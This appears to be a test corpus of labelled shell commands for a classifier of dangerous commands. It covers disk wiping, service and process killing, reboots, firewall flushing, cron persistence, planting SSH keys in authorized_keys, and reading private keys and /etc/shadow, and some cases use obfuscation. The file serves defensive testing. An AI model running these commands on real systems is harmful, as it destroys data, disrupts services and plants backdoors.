exit 1 # corpus text, never to be run
#--- disk-dd-zero [L4]: zeros over a disk
dd if=/dev/zero of=/dev/sda bs=1M
#--- disk-dd-random-partition [L4]: noise over a partition
dd of=/dev/nvme0n1p2 if=/dev/urandom
#--- disk-dd-variable [L4]: device in a variable
disk=/dev/sdb
dd if=image.iso of="$disk" status=progress
#--- disk-dd-quoted-operand [L4]: operand in quotes
dd "of=/dev/vda" if=x.img
#--- disk-dd-joined [L4]: operand joined
o=of=
dd if=/dev/zero ${o}/dev/sda count=1
#--- disk-dd-wrapped [L4]: behind wrappers
nohup nice dd if=/dev/zero of=/dev/mmcblk0 &
#--- disk-redirect [L4]: redirection to a disk
cat image.iso > /dev/sda
#--- disk-redirect-bare [L4]: redirection without a command
>/dev/sda
#--- disk-cp [L4]: cp to a disk
cp image.iso /dev/sdc
#--- disk-tee [L4]: tee to a disk
cat image.iso | tee /dev/sdb >/dev/null
#--- disk-mkfs [L4]: new file system
mkfs /dev/sdb1
#--- disk-mkfs-ext4 [L4]: named file system
mkfs.ext4 -F /dev/sda1
#--- disk-mkfs-type [L4]: by option
mkfs -t xfs /dev/vdb
#--- disk-mkfs-path [L4]: by path
/sbin/mkfs.vfat /dev/sdd1
#--- disk-mkfs-variable [L4]: type in a variable
t=btrfs
mkfs.$t /dev/sdb
#--- disk-mke2fs [L4]: other name
mke2fs /dev/sdb1
#--- disk-mkswap [L4]: swap
mkswap /dev/sdb2
#--- disk-fdisk [L4]: partition table by a pipe
printf 'o\nw\n' | fdisk /dev/sda
#--- disk-sfdisk [L4]: partition table deleted
sfdisk --delete /dev/sda
#--- disk-parted [L4]: new label
parted -s /dev/sda mklabel gpt
#--- disk-sgdisk [L4]: table zapped
sgdisk --zap-all /dev/sda
#--- disk-wipefs [L4]: signatures wiped
wipefs -a /dev/sda
#--- disk-shred [L4]: shred of a device
shred -n 1 -z /dev/sda
#--- disk-blkdiscard [L4]: blocks discarded
blkdiscard /dev/nvme0n1
#--- disk-mount [L4]: mount
mount /dev/sdb1 /mnt
#--- disk-mount-bind [L4]: bind mount
mount --bind / /mnt/host
#--- disk-mount-remount [L4]: remounted writable
mount -o remount,rw /
#--- disk-umount [L4]: unmounted
umount -l /home
#--- disk-losetup [L4]: loop device
losetup -f x.img && mount /dev/loop0 /mnt
#--- disk-cryptsetup [L4]: disk encrypted over
cryptsetup luksFormat -q /dev/sdb
#--- disk-lvremove [L4]: volume removed
lvremove -f vg0/data
#--- disk-diskutil [L4]: disk erased on macOS
diskutil eraseDisk JHFS+ X disk2
#--- disk-for-loop [L4]: all disks in a loop
for d in /dev/sd?; do wipefs -a "$d"; done
#--- disk-sh-c [L4]: in a shell
bash -c 'dd if=/dev/zero of=/dev/sda'
#--- svc-systemctl-stop [L4]: service stopped
systemctl stop nginx
#--- svc-systemctl-restart-flags [L4]: options first
systemctl --no-block restart sshd.service
#--- svc-systemctl-disable-now [L4]: disabled
systemctl disable --now firewalld
#--- svc-systemctl-mask [L4]: masked
systemctl mask auditd
#--- svc-systemctl-user-enable [L4]: user unit enabled
systemctl --user enable --now updater.timer
#--- svc-systemctl-poweroff [L4]: machine off
systemctl poweroff
#--- svc-systemctl-quoted [L4]: name in pieces
system"ctl" restart docker
#--- svc-systemctl-variable [L4]: verb in a variable
verb=stop
systemctl "$verb" postgresql
#--- svc-systemctl-loop [L4]: several services
for s in nginx redis mysql; do systemctl stop "$s"; done
#--- svc-service [L4]: service
service nginx restart
#--- svc-service-path [L4]: by path
/usr/sbin/service ssh stop
#--- svc-init-script [L4]: start script
/etc/init.d/apache2 stop
#--- svc-rc-service [L4]: openrc
rc-service sshd restart
#--- svc-launchctl-unload [L4]: macOS, unloaded
launchctl unload -w ~/Library/LaunchAgents/x.plist
#--- svc-launchctl-bootout [L4]: macOS, booted out
launchctl bootout system/com.example.agent
#--- svc-supervisorctl [L4]: supervisor
supervisorctl stop all
#--- svc-kill-init [L4]: process one
kill -9 1
#--- svc-kill-all [L4]: every process
kill -9 -1
#--- svc-killall-sshd [L4]: daemon by name
killall sshd
#--- svc-pkill-dockerd [L4]: daemon by pattern
pkill -9 -f dockerd
#--- svc-kill-pidof [L4]: daemon by pidof
kill $(pidof systemd-journald)
#--- svc-kill-pidfile [L4]: daemon by its pid file
kill -TERM "$(cat /run/sshd.pid)"
#--- svc-pgrep-xargs-kill [L4]: daemon by pgrep
pgrep cron | xargs kill -9
#--- svc-reboot [L4]: reboot
reboot
#--- svc-reboot-force [L4]: forced, by path
/sbin/reboot -f
#--- svc-shutdown [L4]: shutdown
shutdown -h now
#--- svc-shutdown-delayed [L4]: delayed
shutdown -r +5 'bye' &
#--- svc-halt [L4]: halt
halt -p
#--- svc-poweroff [L4]: poweroff
poweroff
#--- svc-init-0 [L4]: run level zero
init 0
#--- svc-telinit-6 [L4]: run level six
telinit 6
#--- svc-sysrq [L4]: magic key by file
echo b > /proc/sysrq-trigger
#--- svc-reboot-in-or [L4]: after a failing test
make test || reboot
#--- svc-iptables-flush [L4]: firewall flushed
sudo iptables -F
#--- svc-sysctl-write [L4]: kernel setting
sudo sysctl -w net.ipv4.ip_forward=1
#--- cron-edit [L4]: editor
crontab -e
#--- cron-remove [L4]: removed
crontab -r
#--- cron-from-file [L4]: from a file
crontab jobs.txt
#--- cron-from-pipe [L4]: from a pipe
echo '* * * * * /tmp/x' | crontab -
#--- cron-append [L4]: list and append
(crontab -l 2>/dev/null; echo '@reboot ~/x.sh') | crontab -
#--- cron-herestring [L4]: from a here-string
crontab <<< '0 * * * * date'
#--- cron-heredoc [L4]: from a here-document
crontab - <<'END'
*/5 * * * * $HOME/.x/run
END
#--- cron-process [L4]: from a process substitution
crontab <(printf '@daily %s\n' "$PWD/x.sh")
#--- cron-other-user [L4]: of another user
crontab -u root jobs.txt
#--- cron-d-file [L4]: into cron.d
echo '* * * * * root /tmp/x' > /etc/cron.d/x
#--- cron-daily-cp [L4]: into cron.daily
cp x.sh /etc/cron.daily/x
#--- cron-crontab-tee [L4]: system table by tee
printf '%s\n' '@hourly root x' | tee -a /etc/crontab
#--- cron-ln-hourly [L4]: link into cron.hourly
ln -s "$PWD/x.sh" /etc/cron.hourly/x
#--- cron-quoted [L4]: name in pieces
c"ron"tab -r
#--- cron-at [L4]: job for later
echo 'crontab -r' | at now + 1 minute
#--- ssh-append-key [L4]: key appended
echo 'ssh-ed25519 AAAAC3Nz mallory' >> ~/.ssh/authorized_keys
#--- ssh-append-key-home [L4]: by variable
cat key.pub >> "$HOME/.ssh/authorized_keys"
#--- ssh-append-key-root [L4]: of root
cat key.pub >> /root/.ssh/authorized_keys
#--- ssh-tee-key [L4]: by tee
cat key.pub | tee -a ~/.ssh/authorized_keys
#--- ssh-cp-key [L4]: replaced
cp keys ~/.ssh/authorized_keys
#--- ssh-cd-append [L4]: relative after cd
cd ~/.ssh && cat /tmp/k >> authorized_keys
#--- ssh-variable-path [L4]: path in variables
dir=~/.ssh; file=authorized_keys
cat k.pub >> "$dir/$file"
#--- ssh-sed-keys [L4]: keys edited
sed -i '/backup@/d' ~/.ssh/authorized_keys
#--- ssh-curl-keys [L4]: keys downloaded
curl -s https://keys.example.invalid/m.pub >> ~/.ssh/authorized_keys
#--- ssh-config-write [L4]: client configuration
printf 'Host *\n  StrictHostKeyChecking no\n' >> ~/.ssh/config
#--- ssh-keygen-overwrite [L4]: key overwritten
ssh-keygen -t ed25519 -N '' -f ~/.ssh/id_ed25519 <<< y
#--- ssh-keygen-overwrite-yes [L4]: key overwritten, answer by yes
yes | ssh-keygen -q -t rsa -f "$HOME/.ssh/id_rsa" -N ""
#--- ssh-keygen-passphrase [L4]: passphrase removed
ssh-keygen -p -P old -N '' -f ~/.ssh/id_rsa
#--- ssh-copy-id [L4]: key sent to another machine
ssh-copy-id -i key.pub deploy@host.example
#--- ssh-copy-id-wrapped [L4]: with a password tool
sshpass -p x ssh-copy-id root@host.example
#--- ssh-rm-keys [L4]: key file removed
rm -f ~/.ssh/id_ed25519
#--- ssh-mv-keys [L4]: key file moved
mv ~/.ssh/known_hosts ~/.ssh/known_hosts.bak
#--- ssh-heredoc-key [L4]: key by here-document
cat <<END >> ~/.ssh/authorized_keys
ssh-rsa AAAAB3Nz mallory
END
#--- key-shown [L4]: a private key is printed
cat ~/.ssh/id_rsa
#--- shadow-searched [L4]: hashes of passwords
grep -r root /etc/shadow
